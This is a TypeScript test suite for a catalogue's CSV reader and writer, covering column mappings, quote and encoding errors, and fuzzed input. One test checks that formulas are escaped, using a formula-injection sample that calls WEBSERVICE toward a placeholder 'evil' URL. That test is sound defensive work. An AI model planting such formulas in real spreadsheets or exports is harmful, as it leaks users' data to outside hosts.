import assert from 'node:assert/strict'
import { describe, it } from 'node:test'

import { parse } from 'csv-parse/sync'

import { clusterRecords } from '../support/records/cluster-records.ts'
import { CatalogueError } from '#domain/errors.ts'
import { readCsvMapping } from '#formats/tables/publication-mapping.ts'
import { readCsv } from '#formats/tables/read-csv.ts'
import { joinValues, splitValues, withoutGuard, writeCsvRow } from '#formats/tables/write-csv.ts'
import type { Draft } from '#formats/description/description.ts'
import { readSource } from '#formats/source/read-source.ts'
import type { SourceItem, SourceOptions, SourceRecord } from '#formats/source/source-item.ts'
import { createChance, howMany, seed } from '../support/records/chance.ts'
import { evidenceFrom } from '../support/records/marc-lines.ts'
import { all, inChunks } from './marc/marc-files.ts'

const read = (text: string | Buffer, options: SourceOptions = {}, size = 65_536) =>
  all(readSource(inChunks(Buffer.from(text as string), size), { format: 'csv', ...options }))
const told = (item: SourceItem) =>
  [
    item.outcome,
    item.format,
    item.position.number,
    'name' in item ? (item.name ?? '-') : '',
    ...item.defects.map(each => each.kind)
  ].join(' ')
const values = (draft: Draft | undefined, key: string) =>
  draft?.metadata.filter(each => each.key === key).map(each => each.value)
const related = (draft: Draft | undefined, relation: string) =>
  draft?.relations
    .filter(each => each.relation === relation)
    .map(({ target, role }) =>
      [target.type, ...target.metadata.map(each => each.value), ...(role ? [role.code] : [])].join(' ')
    )
const asRecord = (item: SourceItem | undefined): SourceRecord => {
  assert.ok(item?.outcome === 'record', item ? told(item) : 'there is none')
  return item
}

describe('A table of records', () => {
  it('is understood by the names of its columns', async () => {
    const [item] = await read(
      'id;Titel;Ondertitel;Auteur;Vertaler;ISBN;Jaar;Uitgever;Plaats;Taal;Oorspronkelijke titel;Oorspronkelijke taal;Trefwoorden;Pages\r\n' +
        '7;De storm;een roman;"Berg, Anna van den (1948-)";Jan Maes;978-90-9711-408-1 | 909711408X;"ca. 2008";Zee;Gent;Nederlands;The gale;Engels;zee | storm;256\r\n'
    )
    const { name, description, defects } = asRecord(item)
    assert.deepEqual([name, defects], ['7', []])
    const { manifestation, expressions, works } = description
    assert.deepEqual(values(manifestation, 'title'), ['De storm'])
    assert.deepEqual(values(manifestation, 'subtitle'), ['een roman'])
    assert.deepEqual(values(manifestation, 'isbn'), ['978-90-9711-408-1', '909711408X'])
    assert.deepEqual(values(manifestation, 'year_of_publication'), ['2008'])
    assert.deepEqual(values(manifestation, 'extent'), ['256'])
    assert.deepEqual(related(manifestation, 'refPublishers'), ['publisher Zee'])
    assert.deepEqual(related(manifestation, 'refLanguages'), ['language Dutch nld'])
    assert.deepEqual(related(works[0], 'refAuthors'), ['person Berg, Anna van den 1948- aut'])
    assert.deepEqual(related(works[0], 'refLanguages'), ['language English eng'])
    assert.deepEqual(related(works[0], 'refSubjects'), ['subject zee', 'subject storm'])
    assert.deepEqual(values(works[0], 'original_title'), ['The gale'])
    assert.deepEqual(values(works[0], 'title'), ['The gale'])
    assert.deepEqual(related(expressions[0], 'refAuthors'), ['person Maes, Jan trl'])
    assert.equal(expressions[0]?.keys.isTranslation, true)
  })

  it('is understood by a mapping, which counts before the names', async () => {
    const mapping = readCsvMapping({
      agency: 'BE-X',
      delimiter: '\t',
      material: 'music',
      columns: {
        Nr: 'name',
        Naam: { level: 'manifestation', key: 'title' },
        Wie: { level: 'work', relation: 'refAuthors', role: 'composer', separator: '/' },
        Soort: { material: { Boek: 'word', CD: 'music' } },
        Title: null
      }
    })
    const items = await read(
      'Nr\tNaam\tWie\tSoort\tTitle\n1\tLied\tBaas, Els/Koor\tcd\tniets\n2\tBoek\t\tBOEK\tniets\n',
      { mapping }
    )
    const [song, book] = items.map(asRecord)
    assert.equal(song?.name, '(BE-X)1')
    assert.equal(song?.description.manifestation.type, 'manifestation_music')
    assert.deepEqual(values(song?.description.manifestation, 'title'), ['Lied'])
    assert.deepEqual(related(song?.description.works[0], 'refAuthors'), [
      'person Baas, Els cmp',
      'corporation Koor cmp'
    ])
    assert.equal(book?.description.manifestation.type, 'manifestation_word')
  })

  it('has the rules for values that mappings of rows have', async () => {
    const mapping = readCsvMapping({
      columns: {
        Nr: 'name',
        Naam: { level: 'manifestation', key: 'title', split: '/', join: ': ', lang: 'nl' },
        Druk: { level: 'manifestation', key: 'edition', words: { eerste: '1', tweede: '2' } },
        Wie: { level: 'work', relation: 'refAuthors', split: '/', words: { jm: 'Maes, Jan' } }
      }
    })
    const [record] = (await read('Nr,Naam,Druk,Wie\n1,Storm / op zee,Eerste,"JM/Berg, Anna"\n', { mapping })).map(
      asRecord
    )
    const { manifestation, works } = record?.description ?? {}
    assert.deepEqual(
      manifestation?.metadata.filter(each => each.key === 'title').map(({ value, lang }) => [value, lang]),
      [['Storm: op zee', 'nl']]
    )
    assert.deepEqual(values(manifestation, 'edition'), ['1'])
    assert.deepEqual(related(works?.[0], 'refAuthors'), ['person Maes, Jan aut', 'person Berg, Anna aut'])
  })

  it('tells everything that is wrong with a mapping, with its pointer', () => {
    const wrong = {
      agency: 1,
      delimiter: ';;',
      material: 'paper',
      nothing: 1,
      columns: {
        a: { level: 'shelf', key: 'x' },
        b: { level: 'work', relation: 'refPublishers' },
        'c/d': 'no',
        e: { material: { x: 'y' } }
      }
    }
    assert.throws(
      () => readCsvMapping(wrong),
      (error: unknown) =>
        error instanceof CatalogueError &&
        error.code === 'invalid' &&
        assert.deepEqual(error.faults.map(each => each.pointer).sort(), [
          '/agency',
          '/columns/a/level',
          '/columns/b/relation',
          '/columns/c~1d',
          '/columns/e/material',
          '/delimiter',
          '/material',
          '/nothing'
        ]) === undefined
    )
    assert.throws(() => readCsvMapping([]), CatalogueError)
  })

  it('tells once which columns nobody knows, and which values cannot be', async () => {
    const items = await read('title,shelf,language,year\nA,3,nl,2001\nB,4,klingonish,sometimes\n')
    assert.deepEqual(
      items.map(each => each.defects.map(({ kind, tag }) => `${kind} ${tag}`)),
      [[], ['bad_value language', 'bad_value year']]
    )
  })

  it('goes on behind a broken quotation mark, and says at which byte it is', async () => {
    const text = 'id,title\n1,Een\n2,"Twee\n3,Drie\n4,"Vier" meer\n5,"Vijf ""5"""\n'
    for (const size of [65_536, 3, 1]) {
      const items = await read(text, {}, size)
      assert.deepEqual(items.map(told), [
        'record csv 2 1',
        'unreadable csv 3 - broken_quote',
        'record csv 4 3',
        'unreadable csv 5 - broken_quote',
        'record csv 6 5'
      ])
      assert.match(items[1]?.defects[0]?.message ?? '', /byte \d+/)
      assert.equal(text.slice(items[1]?.position.offset).split('\n')[0], '2,"Twee')
      assert.deepEqual(values(asRecord(items[4]).description.manifestation, 'title'), ['Vijf "5"'])
    }
  })

  it('leaves out a row with other columns than the header, but not one with empty cells behind it', async () => {
    const items = await read('id,title,isbn\n1,A\n2,B,,,\n3,C,,x\n\n4,D,\n')
    assert.deepEqual(items.map(told), [
      'unreadable csv 2 - wrong_columns',
      'record csv 3 2',
      'unreadable csv 4 - wrong_columns',
      'record csv 5 4'
    ])
  })

  it('takes a byte order mark away, and says clearly what is not UTF-8', async () => {
    assert.deepEqual((await read(`\ufeffid,title\n1,É\n`)).map(told), ['record csv 2 1'])
    const latin = await read(Buffer.from('id,title\n1,caf\xe9\n2,ok\n', 'latin1'))
    assert.deepEqual(latin.map(told), ['unreadable csv 2 - not_utf8', 'record csv 3 2'])
    const utf16 = await read(Buffer.from('\ufeffid,title\n1,x\n', 'utf16le'), { format: 'csv' })
    assert.deepEqual(utf16.map(told), ['unreadable csv 1 - not_utf8'])
    assert.match(utf16[0]?.defects[0]?.message ?? '', /UTF-16/)
  })

  it('gives the source of a row with its header, so that it can be read by itself', async () => {
    const [, second] = (await read('id,title\n1,A\n2,"B\nC"\n')).map(asRecord)
    assert.equal(Buffer.from(second?.source ?? []).toString(), 'id,title\r\n2,"B\nC"')
    const [again] = await read(Buffer.from(second?.source ?? []), { format: 'csv' })
    assert.deepEqual(asRecord(again).description, second?.description)
  })

  it('names a row without a number by its content', async () => {
    const [one, other] = (await read('title\tyear\nA\t1999\nB\t1999\n')).map(asRecord)
    assert.match(one?.name ?? '', /^sha256:/)
    assert.notEqual(one?.name, other?.name)
  })

  it('finds the work of a MARC record', async () => {
    const [item] = await read('id,title,author,language,original title\n1,De storm,Anna Berg,dut,The gale\n')
    const { works } = clusterRecords([
      asRecord(item).evidence,
      evidenceFrom('marc', '100 1  $aBerg, Anna\n240 10 $aGale. $lDutch\n245 13 $aDe storm /$cAnna Berg.', 'dut')
    ])
    assert.equal(works.length, 1)
  })
})

describe('The reader of CSV', () => {
  it('gives the cells that were written, and that another reader gives, in chunks of any size', async () => {
    const chance = createChance(seed)
    const pieces = ['a', 'é', '"', ',', '\n', '\r\n', ' ', '|', "'", '=1', '', '-', '漢', '\t', '\ufeff"'] as const
    const count = howMany({ quick: 60, short: 300, long: 20_000, onPostgres: 0 })
    for (let run = 0; run < count; run++) {
      const width = 1 + chance.below(4)
      const rows = Array.from({ length: 1 + chance.below(5) }, () =>
        Array.from(
          { length: width },
          () => `x${Array.from({ length: chance.below(5) }, () => chance.pick(pieces)).join('')}`
        )
      )
      const text = rows.map(row => writeCsvRow(row, { guardsFormulas: false })).join('')
      const found = await all(
        readCsv(inChunks(Buffer.from(text), 1 + chance.below(20)), { delimiter: ',', limit: 100_000 })
      )
      const cells = found.map(each => ('cells' in each.found ? each.found.cells : each.found.defect))
      assert.deepEqual(cells, rows, `SEED=${seed} run ${run}`)
      assert.deepEqual(parse(text), rows)
    }
  })

  it('takes apart what was put together into one cell', () => {
    for (const list of [['a'], ['a', 'b'], ['a|b', 'c'], ['|', '||', 'x |'], ['a | b']])
      assert.deepEqual(
        splitValues(joinValues(list)),
        list.map(each => each.trim())
      )
    assert.equal(withoutGuard("'=1"), '=1')
    assert.equal(withoutGuard("'t is"), "'t is")
  })

  it('guards formulas wherever a spreadsheet may begin a cell, and takes the guards away again', () => {
    const row = writeCsvRow(['x;http://evil/?q;=WEBSERVICE(B2)', '\n=1', '＝1', "'=1", 'a;b', 'x; -1', -1])
    assert.equal(row, `"x;http://evil/?q;'=WEBSERVICE(B2)","'\n'=1",'＝1,''=1,"a;b","x; -1",-1\r\n`)
    const chance = createChance(seed)
    const pieces = ['=', "'", ';', '\t', '\n', 'a', '-', '＠', '"', ','] as const
    for (let run = 0; run < 2_000; run++) {
      const cell = Array.from({ length: chance.below(7) }, () => chance.pick(pieces)).join('')
      const [[written = ''] = []] = parse(writeCsvRow([cell, 'x']), { relax_quotes: false }) as string[][]
      assert.equal(withoutGuard(written), cell, JSON.stringify(cell))
      for (const part of written.split(/[;\t\r\n]/)) assert.doesNotMatch(part, /^[=+\-@＝＋－＠]/, JSON.stringify(cell))
    }
  })

  it('never loses a byte of a file without saying so, whatever is changed in it', async () => {
    const chance = createChance(seed)
    const text = 'id,title,author\r\n1,"A ""b""",x\r\n2,"B\r\nC",y\r\n3,D,z\r\n'
    const count = howMany({ quick: 90, short: 500, long: 20_000, onPostgres: 0 })
    for (let run = 0; run < count; run++) {
      let bytes = Buffer.from(text)
      for (let times = 0; times < 1 + chance.below(4); times++)
        bytes[chance.below(bytes.length)] = chance.pick([34, 44, 10, 13, 65, 0xe9])
      // Byte order marks and quotation marks where nobody expects them.
      for (let times = 0; times < chance.below(3); times++) {
        const at = chance.below(bytes.length)
        const inserted = chance.pick(['\ufeff', '\ufeff"', '"\ufeff', '"', '""', '"""'] as const)
        bytes = Buffer.concat([bytes.subarray(0, at), Buffer.from(inserted), bytes.subarray(at)])
      }
      const rows = await all(readCsv(inChunks(bytes, 1 + chance.below(30)), { delimiter: ',', limit: 10_000 }))
      let end = bytes.subarray(0, 3).equals(Buffer.from('\ufeff')) ? 3 : 0
      for (const { position } of rows) {
        // Between rows there are line ends, and nothing else.
        assert.match(bytes.subarray(end, position.offset).toString('latin1'), /^[\r\n]*$/, `SEED=${seed} run ${run}`)
        end = position.offset + position.length
      }
      assert.match(bytes.subarray(end).toString('latin1'), /^[\r\n]*$/)
    }
  })

  it('takes a byte order mark within the file for a letter, and ends when one stands before a quotation mark', async () => {
    const rows = await all(readCsv([Buffer.from('id,type\n\ufeff"abc\n2,x\n')], { delimiter: ',', limit: 1_000 }))
    assert.deepEqual(
      rows.map(each => ('cells' in each.found ? each.found.cells : each.found.defect.kind)),
      [['id', 'type'], ['\ufeff"abc'], ['2', 'x']]
    )
  })

  it('passes over a row that is longer than the limit', async () => {
    const items = await read(`id,title\n1,${'x'.repeat(50_000)}\n2,B\n`, { maxRecordBytes: 1_000 }, 500)
    assert.deepEqual(
      items.map(each => each.outcome),
      ['unreadable', 'record']
    )
    assert.equal(items[0]?.defects[0]?.kind, 'over_limit')
  })
})
